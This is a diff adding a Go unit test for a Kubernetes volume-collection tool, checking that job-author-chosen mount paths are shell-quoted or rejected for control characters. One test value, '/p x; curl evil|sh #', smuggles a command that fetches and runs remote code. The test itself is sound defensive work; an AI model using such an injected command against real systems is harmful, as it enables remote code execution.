@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/require"
@@ -47,4 +48,50 @@ func TestCollect(t *testing.T) {
 	require.NoError(t, err)
 	o := collectOptions{}
 	require.ErrorContains(t, o.run(t.Context(), kube, "team", "shared", &out), "without --volume-per-worker")
+}
+
+// The author of a job chooses where its volumes are mounted, and could make a pod that takes the collector's name:
+// neither becomes a command of whoever collects.
+func TestCollectQuotes(t *testing.T) {
+	for path, says := range map[string]string{
+		"/p x; curl evil|sh #": "count-collect-0:'/p x; curl evil|sh #' count/worker-0\n",
+		"/it's":                `count-collect-0:'/it'\''s' count/worker-0` + "\n",
+		"/p\nevil":             `"/p\nevil" has control characters`,
+		"/p\x1b[2J":            `"/p\x1b[2J" has control characters`,
+	} {
+		kube, s := fake.NewClientset(), settings("count")
+		s.VolumePerWorker, s.AccessMode = true, corev1.ReadWriteOnce
+		job := s.Job()
+		job.UID, job.Spec.Template.Spec.Containers[0].VolumeMounts[0].MountPath = "job-uid", path
+		_, err := kube.BatchV1().Jobs("team").Create(t.Context(), job, metav1.CreateOptions{})
+		require.NoError(t, err)
+		owner := []metav1.OwnerReference{*metav1.NewControllerRef(job, batchv1.SchemeGroupVersion.WithKind("Job"))}
+		for _, pod := range []*corev1.Pod{
+			{
+				ObjectMeta: metav1.ObjectMeta{
+					Name: "count-0-x", Labels: map[string]string{batchv1.JobNameLabel: "count"}, OwnerReferences: owner,
+					Annotations: map[string]string{batchv1.JobCompletionIndexAnnotation: "0"},
+				},
+				Status: corev1.PodStatus{Phase: corev1.PodSucceeded},
+			},
+			{
+				ObjectMeta: metav1.ObjectMeta{Name: "count-collect-0", OwnerReferences: owner},
+				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "nothing is mounted"}}, Volumes: []corev1.Volume{{
+					Name: "v", VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "count-0-x-persistent"}},
+				}}},
+			},
+		} {
+			_, err := kube.CoreV1().Pods("team").Create(t.Context(), pod, metav1.CreateOptions{})
+			require.NoError(t, err)
+		}
+		var out bytes.Buffer
+		err = (&collectOptions{image: "tools"}).run(t.Context(), kube, "team", "count", &out)
+		if strings.HasPrefix(says, "count") {
+			require.NoError(t, err)
+			require.Contains(t, out.String(), says)
+			continue
+		}
+		require.ErrorContains(t, err, says)
+		require.Empty(t, out.String())
+	}
 }
